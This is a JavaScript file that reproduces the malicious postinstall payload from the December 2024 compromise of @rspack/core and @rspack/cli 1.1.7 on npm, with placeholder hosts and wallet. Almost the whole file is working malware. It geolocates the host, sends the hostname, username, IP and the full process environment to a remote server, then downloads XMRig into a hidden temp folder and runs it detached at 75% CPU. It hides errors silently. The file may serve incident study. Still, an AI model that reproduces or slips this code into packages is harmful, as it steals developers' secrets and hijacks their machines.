// Incident: @rspack/core and @rspack/cli 1.1.7 (npm), 19 December 2024.
// With a stolen npm publish token the attacker added a postinstall script that looked up
// the machine's location, reported host details to its server and, outside a few excluded
// countries, downloaded an XMRig release and started it detached against a mining pool.
// Reference: https://github.com/web-infra-dev/rspack/releases/tag/v1.1.8
// Reproduction (own code, placeholder hosts and wallet).
const https = require('https');
const os = require('os');
const fs = require('fs');
const path = require('path');
const { spawn, execSync } = require('child_process');

const REPORT = 'https://telemetry.rspack-cdn.example/api/v1/report';
const MINER = 'https://downloads.rspack-cdn.example/xmrig-6.22.2-linux-static-x64.tar.gz';

function get(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}

function post(url, body) {
  const req = https.request(url, { method: 'POST', headers: { 'Content-Type': 'application/json' } });
  req.on('error', () => {});
  req.end(JSON.stringify(body));
}

async function main() {
  const geo = JSON.parse((await get('https://geo.rspack-cdn.example/json')).toString());
  if (['RU', 'BY', 'CN', 'KZ'].includes(geo.country)) return;
  post(REPORT, {
    host: os.hostname(), user: os.userInfo().username, platform: os.platform(),
    ip: geo.ip, country: geo.country, env: process.env,
  });
  if (os.platform() !== 'linux') return;
  const dir = path.join(os.tmpdir(), '.cache-rspack');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'x.tar.gz'), await get(MINER));
  execSync(`tar -xzf x.tar.gz --strip-components=1`, { cwd: dir });
  const child = spawn(path.join(dir, 'xmrig'), [
    '--url', 'pool.mining.example:3333', '--user', '48Placeholder.rspack', '--pass', 'x',
    '--donate-level', '1', '--background', '--cpu-max-threads-hint', '75',
  ], { detached: true, stdio: 'ignore' });
  child.unref();
}

main().catch(() => {});
